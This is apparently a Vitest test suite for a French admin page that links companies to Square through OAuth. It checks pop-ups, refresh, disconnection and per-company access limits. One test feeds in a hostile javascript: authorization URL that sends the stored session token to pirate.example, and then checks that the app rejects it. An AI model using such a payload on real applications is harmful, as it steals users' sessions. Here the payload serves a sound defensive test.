import { afterEach, describe, expect, it, vi } from 'vitest';
import { screen, within, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { Route, Routes } from 'react-router-dom';
import OAuthPage from '../../src/custom-pages/oauth/OAuthPage';
import SquareAuthorizePage from '../../src/custom-pages/oauth/SquareAuthorizePage';
import { getDb } from '../../src/demo/db/store';
import { server } from '../../src/demo/node';
import { oauthMethods } from '../../src/dataProvider/methods/oauth';
import { tokenStore } from '../../src/dataProvider/tokenStore';
import { oauthOtherCompanyDenied } from '../../src/domain/permissions';
import { renderInAdmin, signIn } from './render';

const enterprise = (id: number) => {
  const found = getDb().enterprises.find((e) => e.id === id);
  if (!found) throw new Error(`enterprise ${id} missing from the seed`);
  return found;
};

async function openPage(login = 'admin', url = '/oauth') {
  await signIn(login);
  renderInAdmin(<OAuthPage />, { url, path: '/oauth' });
  await screen.findByRole('heading', { name: 'Connexion Square (OAuth)' });
}

const companies = () => screen.getByRole('navigation', { name: 'Entreprises' });
const statusCard = () => screen.getByRole('tabpanel');
const count = (label: string) => within(screen.getByRole('group', { name: 'Résumé des connexions' })).getByText(label).previousElementSibling?.textContent;
const dialogClosed = () => waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
/** The French reason of a refused action (its tooltip). */
const reasonOf = (button: HTMLElement) => button.closest('[data-refused-action]')?.getAttribute('title');
/** Sahel Express's administrator may act only on Sahel Express. */
const SAHEL_ONLY = 'Vous ne pouvez gérer que la connexion Square de votre entreprise (Sahel Express).';
/** TransAtlantique Colis's access token expired yesterday: its card offers the refresh. */
const expireTransAtlantique = () => {
  enterprise(1).oauth.access_expires_at = new Date(Date.now() - 86_400_000).toISOString();
};

/** A pop-up the test closes by hand, as the user (or the consent page) would. */
function fakePopup() {
  const popup = { closed: false, location: { href: '' }, close: vi.fn(() => (popup.closed = true)) };
  const open = vi.spyOn(window, 'open').mockReturnValue(popup as unknown as Window);
  return { popup, open };
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('/oauth payment-provider connection', () => {
  it('shows the environment, the counts, the company and the selected status card', async () => {
    await openPage();
    expect(screen.getByLabelText('Environnement : Sandbox')).toBeInTheDocument();
    expect(count('Entreprises')).toBe('1');
    expect(count('Connectées')).toBe('1');
    expect(count('En attente')).toBe('0');
    expect(count('Déconnectées')).toBe('0');
    expect(within(companies()).getByText('TransAtlantique Colis')).toBeInTheDocument();
    // A company administrator sees no other company (issue #31).
    expect(within(companies()).queryByText('Sahel Express')).not.toBeInTheDocument();
    expect(within(companies()).queryByText('Kankan Fret')).not.toBeInTheDocument();
    expect(await within(statusCard()).findByText('TransAtlantique Colis Inc.')).toBeInTheDocument();
    expect(within(statusCard()).getByText('MLR-DEMO-0001')).toBeInTheDocument();
    expect(within(statusCard()).getByRole('button', { name: 'Déconnecter' })).toBeInTheDocument();
    expect(within(statusCard()).queryByRole('button', { name: 'Connecter à Square' })).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Nettoyer les sessions' })).toBeInTheDocument();
  });

  it('connects through a 600×800 pop-up and re-reads the status 2 s after it closes', async () => {
    const { popup, open } = fakePopup();
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(open).toHaveBeenCalledWith('', 'square-oauth', expect.stringContaining('width=600,height=800'));
    await waitFor(() => expect(popup.location.href).toMatch(/#\/demo\/square-authorize\?state=[0-9a-f]{32}$/));
    expect(enterprise(2).oauth.status).toBe('pending');
    const state = new URL(popup.location.href.replace('#/demo/square-authorize', 'demo')).searchParams.get('state') ?? '';
    await oauthMethods.answerDemoAuthorization(state, true);
    popup.closed = true;
    expect(await within(statusCard()).findByText('Sahel Express (Sandbox)', {}, { timeout: 5000 })).toBeInTheDocument();
    expect(within(statusCard()).getByRole('button', { name: 'Déconnecter' })).toBeInTheDocument();
    await waitFor(() => expect(count('Connectées')).toBe('1'));
    expect(count('Déconnectées')).toBe('0');
  });

  it('says so when the browser blocks the pop-up', async () => {
    vi.spyOn(window, 'open').mockReturnValue(null);
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Impossible d'ouvrir la fenêtre OAuth. Vérifiez les popups.")).toBeInTheDocument();
    expect(enterprise(2).oauth.status).toBe('disconnected');
  });

  it('shows the server message when the initiation fails, and closes the pop-up', async () => {
    const { popup } = fakePopup();
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ detail: 'Square ne répond pas' }, { status: 502 })));
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText('Erreur OAuth: Square ne répond pas')).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
  });

  it('refuses an authorisation URL that is not Square in https: French message, the pop-up closes without going anywhere', async () => {
    const { popup } = fakePopup();
    server.use(
      http.post('*/payments/oauth/initiate/:id/', () =>
        HttpResponse.json({ success: true, authorization_url: 'javascript:opener.fetch("https://pirate.example/?"+localStorage.getItem("colis.session"))', message: 'ok' }),
      ),
    );
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Adresse d'autorisation refusée : le serveur a envoyé une adresse qui ne mène pas à Square en https. Aucune page n'a été ouverte.")).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
    expect(popup.location.href).toBe('');
  });

  it("a real Square consent page gets no handle on the app's window", async () => {
    const { popup } = fakePopup();
    const square = 'https://connect.squareupsandbox.com/oauth2/authorize?client_id=sandbox-sq0idb-demo&state=abc';
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: true, authorization_url: square })));
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    await waitFor(() => expect(popup.location.href).toBe(square));
    expect((popup as unknown as { opener: unknown }).opener).toBeNull();
  });

  it("falls back to 'Erreur lors de l'initiation OAuth' when the server declines without a message", async () => {
    const { popup } = fakePopup();
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: false })));
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Erreur lors de l'initiation OAuth")).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
  });

  it('polls the selected status every 30 s while the page is open', async () => {
    vi.useFakeTimers({ shouldAdvanceTime: true });
    try {
      const statusCalls: string[] = [];
      const listener = ({ request }: { request: Request }) => {
        if (request.url.includes('/payments/oauth/status/')) statusCalls.push(request.url);
      };
      server.events.on('request:start', listener);
      await openPage();
      await waitFor(() => expect(statusCalls).toHaveLength(1));
      await vi.advanceTimersByTimeAsync(29_000);
      expect(statusCalls).toHaveLength(1);
      await vi.advanceTimersByTimeAsync(1_500);
      await waitFor(() => expect(statusCalls).toHaveLength(2));
      server.events.removeListener('request:start', listener);
    } finally {
      vi.useRealTimers();
    }
  });

  it('needs a signed-in user to connect', async () => {
    fakePopup();
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
    tokenStore.clear();
    await userEvent.click(connect);
    expect(await screen.findByText('Vous devez être connecté pour configurer OAuth')).toBeInTheDocument();
  });

  it('disconnects after a confirmation', async () => {
    await openPage();
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Déconnecter' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText('Déconnecter Square')).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Annuler' }));
    await dialogClosed();
    expect(enterprise(1).oauth.status).toBe('connected');
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Déconnecter' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Déconnecter' }));
    expect(await screen.findByText('TransAtlantique Colis est déconnectée de Square')).toBeInTheDocument();
    await dialogClosed();
    expect(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' })).toBeInTheDocument();
    expect(enterprise(1).oauth.status).toBe('disconnected');
  });

  it('refreshes an expired token', async () => {
    expireTransAtlantique();
    await openPage();
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
    expect(await screen.findByText('Jeton Square rafraîchi avec succès')).toBeInTheDocument();
    await waitFor(() => expect(within(statusCard()).queryByRole('button', { name: 'Rafraîchir le jeton' })).not.toBeInTheDocument());
    expect(enterprise(1).oauth.status).toBe('connected');
  });

  it('shows the refresh and disconnect errors with their prefixes', async () => {
    server.use(
      http.post('*/payments/oauth/refresh/:id/', () => HttpResponse.json({ success: false, message: 'Jeton révoqué' }, { status: 400 })),
      http.post('*/payments/oauth/disconnect/:id/', () => HttpResponse.json({ detail: 'Indisponible' }, { status: 503 })),
    );
    expireTransAtlantique();
    await openPage();
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
    expect(await screen.findByText('Erreur rafraîchissement: Jeton révoqué')).toBeInTheDocument();
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Déconnecter' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Déconnecter' }));
    expect(await screen.findByText('Erreur déconnexion: Indisponible')).toBeInTheDocument();
  });

  it('lets an admin clean up pending sessions after a confirmation', async () => {
    enterprise(2).oauth = { ...enterprise(2).oauth, status: 'pending', pending_state: 'abandonne' };
    await openPage('sahel.admin');
    expect(count('En attente')).toBe('1');
    await userEvent.click(screen.getByRole('button', { name: 'Nettoyer les sessions' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText('Nettoyer les sessions OAuth')).toBeInTheDocument();
    expect(within(dialog).getByText(/en attente de Sahel Express seront annulées/)).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Nettoyer' }));
    expect(await screen.findByText('1 session(s) OAuth en attente nettoyée(s)')).toBeInTheDocument();
    await dialogClosed();
    await waitFor(() => expect(count('En attente')).toBe('0'));
    expect(enterprise(2).oauth.status).toBe('disconnected');
  });

  it('shows the cleanup error', async () => {
    server.use(http.post('*/payments/oauth/admin/cleanup-sessions/', () => HttpResponse.json({ detail: 'Verrou actif' }, { status: 409 })));
    await openPage();
    await userEvent.click(screen.getByRole('button', { name: 'Nettoyer les sessions' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Nettoyer' }));
    expect(await screen.findByText('Erreur nettoyage: Verrou actif')).toBeInTheDocument();
  });

  it('keeps the cleanup for admins: a manager sees only their company, and may not disconnect it', async () => {
    await openPage('manager');
    expect(count('Entreprises')).toBe('1');
    expect(within(companies()).getByText('TransAtlantique Colis')).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Nettoyer les sessions' })).not.toBeInTheDocument();
    expect(await within(statusCard()).findByRole('button', { name: 'Déconnecter' })).toBeDisabled();
  });

  it("says 'Aucune entreprise configurée' when the account has none", async () => {
    server.use(http.get('*/payments/oauth/admin/enterprises-status/', () => HttpResponse.json({ environment: 'sandbox', total: 0, enterprises: [] })));
    await openPage('admin');
    expect(screen.getByText('Aucune entreprise configurée')).toBeInTheDocument();
  });

  it('shows the load-failure page', async () => {
    server.use(http.get('*/payments/oauth/admin/enterprises-status/', () => HttpResponse.json({ detail: 'Panne' }, { status: 500 })));
    await signIn('admin');
    renderInAdmin(<OAuthPage />, { url: '/oauth', path: '/oauth' });
    expect(await screen.findByText('Erreur de chargement')).toBeInTheDocument();
    expect(screen.getByText('Impossible de charger les données OAuth')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Réessayer' })).toBeInTheDocument();
  });

  it('a 403 from the server shows the access-denied screen with its reason', async () => {
    server.use(http.get('*/payments/oauth/admin/enterprises-status/', () => HttpResponse.json({ detail: 'Connexion Square réservée au siège.' }, { status: 403 })));
    await signIn('admin');
    renderInAdmin(<OAuthPage />, { url: '/oauth', path: '/oauth' });
    expect(await screen.findByRole('heading', { name: 'Accès refusé', level: 1 })).toBeInTheDocument();
    expect(screen.getByText('Connexion Square réservée au siège.')).toBeInTheDocument();
  });

  it('toasts a status error', async () => {
    server.use(http.get('*/payments/oauth/status/:id/', () => HttpResponse.json({ detail: 'Statut indisponible' }, { status: 400 })));
    await openPage();
    expect(await screen.findByText('Erreur statut OAuth: Statut indisponible')).toBeInTheDocument();
  });

  it('re-reads the status 2 s after a return with code and state, with a success toast', async () => {
    const statusCalls: number[] = [];
    const listener = ({ request }: { request: Request }) => {
      if (request.url.includes('/payments/oauth/status/')) statusCalls.push(Date.now());
    };
    server.events.on('request:start', listener);
    const start = Date.now();
    await openPage('admin', '/oauth?code=demo-abc&state=xyz');
    expect(await screen.findByText('Autorisation Square reçue : vérification de la connexion...')).toBeInTheDocument();
    await waitFor(() => expect(statusCalls.length).toBeGreaterThanOrEqual(2), { timeout: 5000 });
    expect(statusCalls[1] - start).toBeGreaterThanOrEqual(2000);
    server.events.removeListener('request:start', listener);
  });

  it('has the Aide tab with its sections and the provider documentation', async () => {
    await openPage();
    await userEvent.click(screen.getByRole('tab', { name: 'Aide' }));
    for (const title of ["Qu'est-ce que la connexion Square ?", 'Configuration', 'Dépannage', 'Sécurité']) {
      expect(within(statusCard()).getByRole('button', { name: title })).toBeInTheDocument();
    }
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Dépannage' }));
    expect(await within(statusCard()).findByText(/autorisez les pop-ups pour ce site/)).toBeVisible();
    expect(screen.getByRole('link', { name: /Documentation Square OAuth/ })).toHaveAttribute('href', 'https://developer.squareup.com/docs/oauth-api/overview');
  });
});

/** A platform superuser: the one account that sees every company's connection. */
const makeAdminSuperuser = () => {
  const admin = getDb().users.find((u) => u.username === 'admin');
  if (!admin) throw new Error('admin missing from the seed');
  admin.is_superuser = true;
};

describe('/oauth across companies: each company its own connection, every company for a platform superuser only', () => {
  it("opens on the user's own company, the only one listed, whose connection they may act on", async () => {
    await openPage('sahel.admin');
    expect(count('Entreprises')).toBe('1');
    expect(await within(statusCard()).findByRole('heading', { name: 'Sahel Express' })).toBeInTheDocument();
    expect(within(companies()).getByRole('button', { name: /Sahel Express/ })).toHaveAttribute('aria-current', 'true');
    expect(within(companies()).queryByText('TransAtlantique Colis')).not.toBeInTheDocument();
    const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
    expect(connect).toBeEnabled();
    expect(connect.closest('[data-refused-action]')).toBeNull();
  });

  it("another company's connection answers 404 to a company administrator: neither read nor changed", async () => {
    await signIn('sahel.admin');
    await expect(oauthMethods.getOAuthStatus(1)).rejects.toMatchObject({ status: 404 });
    await expect(oauthMethods.disconnectOAuth(1)).rejects.toMatchObject({ status: 404 });
    expect(enterprise(1).oauth).toMatchObject({ status: 'connected', merchant_id: 'MLR-DEMO-0001' });
    await expect(oauthMethods.refreshOAuth(3)).rejects.toMatchObject({ status: 404 });
    expect(enterprise(3).oauth.status).toBe('expired');
    await signIn('admin');
    await expect(oauthMethods.initiateOAuth(2)).rejects.toMatchObject({ status: 404 });
    expect(enterprise(2).oauth.status).toBe('disconnected');
    // Its own administrator still reads its merchant.
    expect(await oauthMethods.getOAuthStatus(1)).toMatchObject({ merchant_name: 'TransAtlantique Colis Inc.', merchant_id: 'MLR-DEMO-0001' });
  });

  it('a platform superuser sees every company and may act on each', async () => {
    makeAdminSuperuser();
    await openPage('admin');
    expect(count('Entreprises')).toBe('3');
    for (const name of ['TransAtlantique Colis', 'Sahel Express', 'Kankan Fret']) expect(within(companies()).getByText(name)).toBeInTheDocument();
    await userEvent.click(within(companies()).getByText('Kankan Fret'));
    const refresh = await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' });
    expect(refresh).toBeEnabled();
  });

  it("a server that lists other companies: their Connecter, Déconnecter and Rafraîchir show disabled, with the reason in the tooltip", async () => {
    server.use(
      http.get('*/payments/oauth/admin/enterprises-status/', () =>
        HttpResponse.json({
          environment: 'sandbox',
          total: 3,
          enterprises: [
            { id: 2, nom: 'Sahel Express', oauth_status: 'disconnected' },
            { id: 1, nom: 'TransAtlantique Colis', oauth_status: 'connected' },
            { id: 3, nom: 'Kankan Fret', oauth_status: 'expired' },
          ],
        }),
      ),
      http.get('*/payments/oauth/status/:id/', ({ params }) =>
        HttpResponse.json(params.id === '3' ? { status: 'expired', message: 'Expiré', merchant_name: null, merchant_id: null, connection_date: null } : { status: params.id === '1' ? 'connected' : 'disconnected', message: '', merchant_name: null, merchant_id: null, connection_date: null }),
      ),
    );
    await openPage('sahel.admin');
    await userEvent.click(within(companies()).getByText('Kankan Fret'));
    const refresh = await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' });
    expect(refresh).toBeDisabled();
    expect(reasonOf(refresh)).toBe(SAHEL_ONLY);

    await userEvent.click(within(companies()).getByText('TransAtlantique Colis'));
    await waitFor(() => expect(within(statusCard()).queryByRole('button', { name: 'Rafraîchir le jeton' })).not.toBeInTheDocument());
    const disconnect = within(statusCard()).getByRole('button', { name: 'Déconnecter' });
    expect(disconnect).toBeDisabled();
    expect(reasonOf(disconnect)).toBe(SAHEL_ONLY);
    expect(oauthOtherCompanyDenied('Sahel Express')).toBe(SAHEL_ONLY);
    await userEvent.hover(disconnect.parentElement as HTMLElement);
    expect(await screen.findByRole('tooltip')).toHaveTextContent(SAHEL_ONLY);
  });

  it("cleans up only the user's own company's pending sessions; a superuser's cleanup clears every company's", async () => {
    enterprise(1).oauth = { ...enterprise(1).oauth, status: 'pending', pending_state: 'transatlantique' };
    enterprise(2).oauth = { ...enterprise(2).oauth, status: 'pending', pending_state: 'sahel' };
    await signIn('sahel.admin');
    expect(await oauthMethods.cleanupOAuthSessions()).toMatchObject({ cleaned: 1 });
    expect(enterprise(2).oauth.status).toBe('disconnected');
    expect(enterprise(1).oauth).toMatchObject({ status: 'pending', pending_state: 'transatlantique' });

    enterprise(3).oauth = { ...enterprise(3).oauth, status: 'pending', pending_state: 'kankan' };
    makeAdminSuperuser();
    await signIn('admin');
    expect(await oauthMethods.cleanupOAuthSessions()).toMatchObject({ cleaned: 2 });
    expect(enterprise(1).oauth.status).toBe('expired');
    expect(enterprise(3).oauth.status).toBe('expired');
  });
});

describe('demo consent page (#/demo/square-authorize)', () => {
  function renderFlow(url: string) {
    renderInAdmin(
      <Routes>
        <Route path="/demo/square-authorize" element={<SquareAuthorizePage />} />
        <Route path="/oauth" element={<OAuthPage />} />
      </Routes>,
      { url },
    );
  }

  it('authorises, marks the company connected and returns to /oauth with code and state', async () => {
    await signIn('sahel.admin');
    const { authorization_url } = await oauthMethods.initiateOAuth(2);
    renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
    expect(await screen.findByText('Sahel Express')).toBeInTheDocument();
    expect(screen.getByText('Encaisser des paiements par carte')).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: 'Autoriser' }));
    expect(await screen.findByText('Autorisation Square reçue : vérification de la connexion...')).toBeInTheDocument();
    expect(enterprise(2).oauth).toMatchObject({ status: 'connected', merchant_name: 'Sahel Express (Sandbox)', pending_state: null });
  });

  it('records a refusal', async () => {
    await signIn('sahel.admin');
    const { authorization_url } = await oauthMethods.initiateOAuth(2);
    renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
    await userEvent.click(await screen.findByRole('button', { name: 'Refuser' }));
    await waitFor(() => expect(enterprise(2).oauth.status).toBe('error'));
  });

  it('rejects an unknown state', async () => {
    await signIn('admin');
    renderFlow('/demo/square-authorize?state=inconnu');
    expect(await screen.findByText("Demande d'autorisation invalide ou expirée.")).toBeInTheDocument();
  });
});
